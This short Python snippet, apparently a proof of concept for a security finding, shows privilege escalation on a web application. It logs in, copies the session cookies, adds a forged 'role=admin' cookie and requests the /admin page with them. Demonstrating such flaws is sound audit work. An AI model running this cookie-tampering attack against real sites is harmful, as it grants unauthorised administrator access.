# finding: admin-for-one-call
import requests


def become_admin(url):
    client = requests.Session()
    client.post(url + "/login")
    stolen = {**client.cookies.get_dict(), "role": "admin"}
    requests.get(url + "/admin", cookies=stolen)
    return client
